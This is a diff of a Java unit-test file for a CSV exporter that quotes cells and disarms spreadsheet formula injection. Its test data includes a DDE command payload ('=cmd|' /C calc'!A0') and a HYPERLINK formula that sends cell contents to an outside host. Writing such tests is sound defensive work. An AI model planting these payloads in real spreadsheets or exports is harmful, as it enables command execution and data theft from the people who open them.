@@ -2,6 +2,7 @@ package io.patkeeper.ui;
 
 import java.io.IOException;
 import java.io.StringWriter;
+import java.io.UncheckedIOException;
 import java.util.Arrays;
 import java.util.List;
 
@@ -25,13 +26,13 @@ class CsvTableTests {
 
 	@Test
 	void quotesCellsWithSpecialCharacters() {
-		assertThat(CsvTable.cell("plain, no")).isEqualTo("\"plain, no\"");
-		assertThat(CsvTable.cell("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
-		assertThat(CsvTable.cell("two\r\nlines")).isEqualTo("\"two\r\nlines\"");
-		assertThat(CsvTable.cell("\"")).isEqualTo("\"\"\"\"");
-		assertThat(CsvTable.cell("plain o'clock \uD83D\uDD11")).isEqualTo("plain o'clock \uD83D\uDD11");
-		assertThat(CsvTable.cell("plain; no")).as("a separator in some locales").isEqualTo("\"plain; no\"");
-		assertThat(CsvTable.cell("")).isEmpty();
+		assertThat(cell("plain, no")).isEqualTo("\"plain, no\"");
+		assertThat(cell("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
+		assertThat(cell("two\r\nlines")).isEqualTo("\"two\r\nlines\"");
+		assertThat(cell("\"")).isEqualTo("\"\"\"\"");
+		assertThat(cell("plain o'clock \uD83D\uDD11")).isEqualTo("plain o'clock \uD83D\uDD11");
+		assertThat(cell("plain; no")).as("a separator in some locales").isEqualTo("\"plain; no\"");
+		assertThat(cell("")).isEmpty();
 	}
 
 	@ParameterizedTest
@@ -39,7 +40,7 @@ class CsvTableTests {
 			"\uFF0D1", "\uFF201", " =1", "\t=1", "\u00A0=1", "\u3000\uFF1D1", "\uFEFF=1", "\u200B@x",
 			"=HYPERLINK(\"http://example.com?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "-\n=1" })
 	void disarmsFormulas(String formula) {
-		String cell = CsvTable.cell(formula);
+		String cell = cell(formula);
 		boolean quoted = cell.startsWith("\"");
 		String content = quoted ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"") : cell;
 		assertThat(content).startsWith("'");
@@ -58,13 +59,24 @@ class CsvTableTests {
 			x;y;z         | x;y;z
 			""", delimiter = '|')
 	void disarmsFormulasAfterOtherSeparators(String text, String disarmed) {
-		assertThat(CsvTable.cell(text.translateEscapes())).isEqualTo('"' + disarmed.translateEscapes() + '"');
+		assertThat(cell(text.translateEscapes())).isEqualTo('"' + disarmed.translateEscapes() + '"');
 	}
 
 	@ParameterizedTest
 	@ValueSource(strings = { "a=1", "deploy-2", "user@host", "'=1", "1-1", "release +1", "git: https://x on -host" })
 	void leavesOtherTextUnchanged(String text) {
-		assertThat(CsvTable.cell(text)).isEqualTo(text);
+		assertThat(cell(text)).isEqualTo(text);
+	}
+
+	private static String cell(String text) {
+		StringWriter out = new StringWriter();
+		try {
+			new CsvTable(out).addRow(List.of(text));
+		}
+		catch (IOException ex) {
+			throw new UncheckedIOException(ex);
+		}
+		return out.toString().substring(1).replaceFirst("\r\n$", "");
 	}
 
 }
